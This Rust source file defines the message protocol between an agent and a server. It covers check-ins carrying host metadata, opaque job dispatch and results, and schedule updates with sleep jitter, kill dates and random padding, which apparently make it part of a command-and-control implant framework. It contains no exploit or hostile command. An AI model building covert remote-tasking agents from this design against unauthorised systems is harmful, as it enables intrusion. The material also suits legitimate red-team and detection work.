//! Application messages carried inside sealed envelopes (JSON).

use std::time::Duration;

use serde::{Deserialize, Serialize};
use uuid::Uuid;

use crate::envelope::MessageType;

/// What the agent reports on a check-in.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CheckInStatus {
    /// Jobs dispatched to the worker pool and not yet reported
    pub pending_jobs: usize,
    /// Failed attempts since the last successful exchange
    pub failures: u32,
}

/// Agent-to-server message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum AgentMessage {
    /// Periodic check-in. The first one of a session carries host metadata.
    CheckIn {
        /// Opaque host information (empty after the first contact)
        #[serde(default, skip_serializing_if = "Vec::is_empty", with = "base64_bytes")]
        metadata: Vec<u8>,
        /// Current agent status
        status: CheckInStatus,
    },
    /// Outcomes of finished jobs
    JobResults {
        /// One entry per finished job
        results: Vec<JobResult>,
    },
}

impl AgentMessage {
    /// Envelope type for this message.
    pub fn message_type(&self) -> MessageType {
        match self {
            AgentMessage::CheckIn { .. } => MessageType::CheckIn,
            AgentMessage::JobResults { .. } => MessageType::JobResult,
        }
    }
}

/// A unit of work handed to the agent.
///
/// `kind` and `payload` are opaque here; the job runner interprets them.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Job {
    /// Job identifier, echoed in the result
    pub id: Uuid,
    /// Job type
    pub kind: String,
    /// Job arguments
    #[serde(default, with = "base64_bytes")]
    pub payload: Vec<u8>,
}

/// Outcome of a job.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum JobStatus {
    /// Ran to completion
    Completed,
    /// Ran and failed
    Failed,
    /// No runner knows this job kind
    Unsupported,
    /// Stopped by cancellation
    Cancelled,
}

/// A finished job.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct JobResult {
    /// The job this result belongs to
    pub job_id: Uuid,
    /// Outcome
    pub status: JobStatus,
    /// Output
    #[serde(default, with = "base64_bytes")]
    pub payload: Vec<u8>,
}

impl JobResult {
    /// Result with a status and output.
    pub fn new(job_id: Uuid, status: JobStatus, payload: impl Into<Vec<u8>>) -> Self {
        Self {
            job_id,
            status,
            payload: payload.into(),
        }
    }
}

/// Changes to the running schedule. Absent fields are left alone.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ConfigUpdate {
    /// New base sleep
    #[serde(default, skip_serializing_if = "Option::is_none", with = "humantime_serde_opt")]
    pub sleep: Option<Duration>,
    /// New skew percentage
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub skew: Option<u8>,
    /// New retry budget
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub max_retry: Option<u32>,
    /// New kill date (Unix epoch seconds, 0 clears it)
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub kill_date: Option<i64>,
    /// New maximum random padding
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub padding: Option<usize>,
}

/// Server-to-agent answer to any agent message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "directive", content = "body", rename_all = "snake_case")]
pub enum ServerDirective {
    /// Nothing to do
    Idle,
    /// Run these jobs
    Jobs(Vec<Job>),
    /// Adjust the schedule
    Configure(ConfigUpdate),
    /// Stop for good
    Terminate,
}

impl ServerDirective {
    /// Envelope type for this directive.
    pub fn message_type(&self) -> MessageType {
        match self {
            ServerDirective::Idle | ServerDirective::Jobs(_) => MessageType::JobRequest,
            ServerDirective::Configure(_) | ServerDirective::Terminate => MessageType::Control,
        }
    }
}

pub(crate) mod base64_bytes {
    use base64::{engine::general_purpose::STANDARD, Engine};
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S>(bytes: &[u8], serializer: S) -> Result<S::Ok, S::Error>
    where
        S: Serializer,
    {
        serializer.serialize_str(&STANDARD.encode(bytes))
    }

    pub fn deserialize<'de, D>(deserializer: D) -> Result<Vec<u8>, D::Error>
    where
        D: Deserializer<'de>,
    {
        let s = String::deserialize(deserializer)?;
        STANDARD.decode(&s).map_err(serde::de::Error::custom)
    }
}

pub(crate) mod humantime_serde {
    use std::time::Duration;

    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S>(duration: &Duration, serializer: S) -> Result<S::Ok, S::Error>
    where
        S: Serializer,
    {
        serializer.serialize_str(&humantime::format_duration(*duration).to_string())
    }

    pub fn deserialize<'de, D>(deserializer: D) -> Result<Duration, D::Error>
    where
        D: Deserializer<'de>,
    {
        let s = String::deserialize(deserializer)?;
        humantime::parse_duration(&s).map_err(serde::de::Error::custom)
    }
}

mod humantime_serde_opt {
    use std::time::Duration;

    use serde::{Deserializer, Serializer};

    pub fn serialize<S>(duration: &Option<Duration>, serializer: S) -> Result<S::Ok, S::Error>
    where
        S: Serializer,
    {
        match duration {
            Some(d) => super::humantime_serde::serialize(d, serializer),
            None => serializer.serialize_none(),
        }
    }

    pub fn deserialize<'de, D>(deserializer: D) -> Result<Option<Duration>, D::Error>
    where
        D: Deserializer<'de>,
    {
        super::humantime_serde::deserialize(deserializer).map(Some)
    }
}
